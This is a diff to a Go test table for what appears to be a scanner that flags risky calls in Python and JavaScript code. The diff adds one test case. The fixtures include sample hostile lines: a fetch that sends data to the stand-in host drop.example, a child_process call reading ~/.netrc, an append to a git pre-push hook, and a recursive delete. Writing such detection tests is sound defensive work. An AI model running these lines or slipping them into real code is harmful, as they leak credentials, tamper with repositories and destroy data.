@@ -51,6 +51,7 @@ func TestRead(t *testing.T) {
 		{"python: skipped test", "py", "@pytest.mark.skip(reason='x')\ndef test_a(): pass", []string{"rights skipped test pytest.mark.skip"}},
 		{"python: decorators", "py", "@app.get('/home/feed')\n@app.route('/api/x')\n@dataclass\n@user.example\ndef f(): pass", nil},
 		{"python: comments and strings call nothing", "py", "# requests.post(x)\n'''\nos.system('ls')\n'''\ns = \"eval(x)\"", nil},
+		{"python: a setting without a value", "py", "verify)\nrun(verify)", nil},
 		{"python: deleted", "py", "shutil.rmtree(p)", []string{"file shutil.rmtree shutil.rmtree"}},
 		{"javascript: request", "ts", "await fetch(`https://drop.example/in?d=${x}`, {method: 'POST'})", []string{"out fetch drop.example"}},
 		{"javascript: modules", "js", "const { exec: run } = require('node:child_process')\nimport * as fs from 'fs'\nrun('cat ~/.netrc')\nfs.appendFileSync('.git/hooks/pre-push', x)", []string{"secret store ~/.netrc", "write fs.appendFileSync .git/hooks/pre-push"}},
